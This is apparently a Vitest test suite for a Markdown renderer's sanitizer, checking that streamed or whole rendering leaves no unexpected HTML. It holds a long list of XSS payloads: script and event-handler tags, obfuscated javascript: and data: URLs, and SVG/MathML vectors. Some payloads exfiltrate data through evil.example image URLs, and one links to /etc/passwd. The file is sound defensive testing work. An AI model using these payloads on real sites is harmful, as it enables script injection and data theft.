// @vitest-environment jsdom
import { describe, expect, test } from "vitest";
import { MarkdownStream, renderMarkdown } from "./index";

const SCRIPT = "javascript:alert(1)";
const PAGE = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";
const LEAK = "https://evil.example/p.png?q=secret";

const TAGS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  `<img src="${LEAK}">`,
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=https://evil.example/>",
  "<form action=javascript:alert(1)><input type=submit></form>",
  "<input onfocus=alert(1) autofocus>",
  "<input type=image src=https://evil.example/p.png>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<video><source onerror=alert(1)></video>",
  "<video poster=https://evil.example/p.png></video>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<body onload=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='#' onclick=alert(1)>x</a>",
  "<div style='background:url(https://evil.example/p.png)'>x</div>",
  "<div id=getElementById name=body>x</div>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?php echo 1 ?><img src=x onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
];

const LINKS = [
  `[x](${SCRIPT})`,
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java script:alert(1)>)",
  "[x](&#x6A;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&Tab;javascript:alert(1))",
  "[x](&#1;javascript:alert(1))",
  "[x](\\javascript:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](vbscript:msgbox(1))",
  `[x](${PAGE})`,
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/api/shutdown)",
  "[x](#top)",
  "[x](https://bank.example@evil.example)",
  '[x](https://ok.example "onclick=alert(1)")',
  "[x](https://ok.example '\"onmouseover=alert(1) x=\"')",
  '[x](https://ok.example/"onmouseover=alert(1))',
  "[x](<https://ok.example/><img src=x onerror=alert(1)>)",
  `<${SCRIPT}>`,
  `<${PAGE}>`,
  `[x][r]\n\n[r]: ${SCRIPT}`,
  `[r]\n\n[r]: ${PAGE} "t"`,
  `[x][]\n\n[x]: vbscript:x`,
  `[${"[".repeat(60)}x](${SCRIPT})`,
  `[<img src=x onerror=alert(1)>](${SCRIPT})`,
  `[![x](${LEAK})](${SCRIPT})`,
  `**[x](${SCRIPT})**`,
  `# [x](${SCRIPT})`,
  `| [x](${SCRIPT}) |\n|---|\n| <img src=x onerror=alert(1)> |`,
  `> - [x](${SCRIPT})\n>   1. ![x](${LEAK})`,
  "[constructor][__proto__]\n\n[__proto__]: javascript:alert(1)\n[constructor]: data:x",
];

const PICTURES = [
  `![x](${LEAK})`,
  `![](${LEAK})`,
  `![x](<${LEAK}>)`,
  `![x](${LEAK} "title")`,
  `![x][r]\n\n[r]: ${LEAK}`,
  `![r][]\n\n[r]: ${LEAK}`,
  `![r]\n\n[r]: ${LEAK}`,
  `[![x](${LEAK})](https://ok.example)`,
  `![![x](${LEAK})](${LEAK})`,
  `![<img src=x>](${LEAK})`,
  `![x](${SCRIPT})`,
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  `![x](" onerror="alert(1))`,
  `![" onerror="alert(1)](${LEAK})`,
  "![x](\\\\evil.example\\share\\x.png)",
  "![x](attachment:x.png)",
];

const CODE = [
  "```html\n<script>alert(1)</script>\n```",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  "```js onload=alert(1)\nx\n```",
  "~~~ <script>\n</code></pre><img src=x onerror=alert(1)>\n~~~",
  "    <img src=x onerror=alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "`` ` <script>alert(1)</script> ``",
  "- [x] <input type=image src=https://evil.example/p.png>",
];

const PAYLOADS = [...TAGS, ...LINKS, ...PICTURES, ...CODE];

const ELEMENTS =
  /^(div|span|p|h[1-6]|hr|br|blockquote|ul|ol|li|pre|code|table|thead|tbody|tr|th|td|em|strong|s|a|input|button)$/;
const ATTRIBUTES = /^(class|href|rel|target|title|type|disabled|checked|start)$/;
const CLASSES =
  /^(markdown|blocks( done)?|code|lines|newline|language-[\w+#.-]+|table|task|address|image|alt|left|center|right|math( display)?|tex|note|label|says|noteref)$/;

/** Everything in the document that this project did not mean to make. */
function foreign(root: Element): string[] {
  const elements = [root, ...root.querySelectorAll("*")];
  const strangers = elements.filter((element) => !ELEMENTS.test(element.localName));
  return [...strangers, ...elements.filter(isMisused)]
    .map((element) => element.outerHTML)
    .concat(elements.flatMap((element) => [...element.attributes].flatMap(unknown)));
}

function unknown({ name, value }: Attr): string[] {
  const known = name === "class" ? CLASSES.test(value) : ATTRIBUTES.test(name);
  return known ? [] : [`${name}=${value}`];
}

/** A link to anywhere but the two hosts of this file, a field that takes more than a look. */
function isMisused(element: Element): boolean {
  if (element instanceof HTMLInputElement) return element.type !== "checkbox" || !element.disabled;
  if (!(element instanceof HTMLAnchorElement)) return false;
  const honest = /^https:\/\/(ok|evil)\.example(\/|$)/.test(element.href);
  return !honest || element.rel !== "noopener noreferrer nofollow";
}

function stream(text: string, size: number): void {
  const root = document.createElement("div");
  document.body.append(root);
  const markdown = new MarkdownStream(root);
  for (let at = 0; at < text.length; at += size) {
    markdown.push(text.slice(at, at + size));
    markdown.flush();
    expect(foreign(root)).toEqual([]);
  }
  markdown.end();
  expect(foreign(root)).toEqual([]);
  root.remove();
}

test("there are 96 payloads, and none twice", () => {
  expect(new Set(PAYLOADS).size).toBe(96);
});

describe.each(PAYLOADS)("%j", (payload) => {
  test("leaves nothing foreign, whole or by character", () => {
    const root = document.createElement("div");
    renderMarkdown(root, payload);
    expect(foreign(root)).toEqual([]);
    stream(payload, 1);
  });

  test("leaves nothing foreign inside of other blocks", () => {
    const lines = payload.split("\n");
    stream(`text ${payload}\n\n- item\n  ${lines.join("\n  ")}\n\n> ${lines.join("\n> ")}\n`, 5);
  });
});

test.each(TAGS.slice(0, 36))("raw HTML is shown as it was written: %j", (payload) => {
  const root = document.createElement("div");
  renderMarkdown(root, `x ${payload}`);
  expect(root.textContent).toBe(`x ${payload}`);
});

test("the scan finds what a careless renderer would leave", () => {
  const root = document.createElement("div");
  const [image, link, field] = ["img", "a", "input"].map((tag) => document.createElement(tag));
  image?.setAttribute("src", LEAK);
  link?.setAttribute("href", SCRIPT);
  field?.setAttribute("onfocus", "alert(1)");
  for (const node of [image, link, field]) if (node) root.append(node);
  expect(foreign(root)).toHaveLength(5);
});

test("a refused link keeps its label and shows where it would have gone", () => {
  const root = document.createElement("div");
  renderMarkdown(root, "[read *this*](javascript:alert%281%29)");
  const refused = root.querySelector(".address");
  expect(refused?.textContent).toBe("read this");
  expect(refused?.getAttribute("title")).toBe("javascript:alert%281%29");
  expect(root.querySelector("a")).toBeNull();
});

test("a link shows its full address and opens apart from the notebook", () => {
  const root = document.createElement("div");
  const href = `https://example.com/?${"x".repeat(500)}`;
  renderMarkdown(root, `[text](${href} "a lie")`);
  const link = root.querySelector("a");
  expect(link?.getAttribute("href")).toBe(href);
  expect(link?.title).toBe(href);
  expect([link?.target, link?.rel]).toEqual(["_blank", "noopener noreferrer nofollow"]);
});

test("a picture is a chip with its name and its address as a link", () => {
  const root = document.createElement("div");
  renderMarkdown(root, "![a *big* cat](https://example.com/cat.png)");
  const chip = root.querySelector("span.image");
  expect(chip?.textContent).toBe("🖼 a big cat https://example.com/cat.png");
  expect(chip?.querySelector("a")?.getAttribute("href")).toBe("https://example.com/cat.png");
});

test.each([
  ["[https://bank.example](https://evil.example/login)", "https://bank.example (evil.example)"],
  ["[bank.example](https://evil.example)", "bank.example (evil.example)"],
  ["[**bank.example/x**](https://evil.example)", "bank.example/x (evil.example)"],
  ["[https://bank.example/a](https://bank.example/b)", "https://bank.example/a"],
  ["[Bank](https://evil.example)", "Bank"],
  ["https://ok.example/a(b)c.", "https://ok.example/a(b)c."],
])("%s is read as %j", (text, shown) => {
  const root = document.createElement("div");
  renderMarkdown(root, text);
  expect(root.textContent).toBe(shown);
});

test("a host in look-alike letters is no link, and its title tells it from the honest one", () => {
  const root = document.createElement("div");
  renderMarkdown(root, "[apple](https://\u0430pple.com/a)");
  expect(root.querySelector("a")).toBeNull();
  expect(root.querySelector(".address")?.getAttribute("title")).toBe("https://xn--pple-43d.com/a");
});

const FORMULAS = [
  "$\\href{javascript:alert(1)}{x}$",
  "$$\\includegraphics{https://evil.example/p.png}$$",
  "\\(\\text{<img src=x onerror=alert(1)>}\\)",
  "\\[\n<script>alert(1)</script>\n\\]",
  "$x$<img src=x onerror=alert(1)>$y$",
  "[^1]<script>\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
  "[^<b>]\n\n[^<b>]: ![x](https://evil.example/p.png)",
  '[^" onclick=alert(1)]: x',
  "[^__proto__] [^constructor]\n\n[^__proto__]: x",
];

test.each(FORMULAS)("%j leaves nothing foreign, whole or by character", (payload) => {
  const root = document.createElement("div");
  renderMarkdown(root, payload);
  expect(foreign(root)).toEqual([]);
  stream(payload, 1);
});
